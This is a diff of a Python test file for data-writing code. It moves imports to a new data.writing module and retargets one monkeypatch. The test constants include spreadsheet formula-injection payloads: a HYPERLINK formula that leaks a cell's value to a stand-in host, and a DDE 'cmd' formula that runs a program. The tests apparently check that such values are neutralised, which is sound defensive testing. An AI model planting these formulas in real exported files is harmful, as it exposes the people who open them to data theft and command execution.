@@ -17,18 +17,17 @@ import pyarrow as pa
 import pytest
 from openpyxl import load_workbook
 
-import data.io
-from data.io import (
-    DataFileError,
+import data.writing
+from data.io import DataFileError, read_table
+from data.simulate import simulate_to_dir
+from data.validation import quarantine_frame, validate_file
+from data.writing import (
     atomic_outputs,
     neutralised_text,
     plain_temporary,
-    read_table,
     write_table,
     write_table_to,
 )
-from data.simulate import simulate_to_dir
-from data.validation import quarantine_frame, validate_file
 from tests.data.conftest import HISTORY_NAMES, history_rows
 
 FORMULAS = ['=HYPERLINK("http://x/?leak="&B2,"click")', "=cmd|' /C calc'!A0", "+1", "@SUM(A1)"]
@@ -187,7 +186,7 @@ def test_a_read_only_folder_is_one_line(tmp_path: Path, monkeypatch: pytest.Monk
     def read_only(*_: Any, **__: Any) -> Any:
         raise OSError(errno.EROFS, "Read-only file system", str(tmp_path))
 
-    monkeypatch.setattr(data.io, "plain_temporary", read_only)
+    monkeypatch.setattr(data.writing, "plain_temporary", read_only)
 
     with pytest.raises(DataFileError, match="read-only file system; write elsewhere"):
         write_table(TABLE, tmp_path / "out.csv")
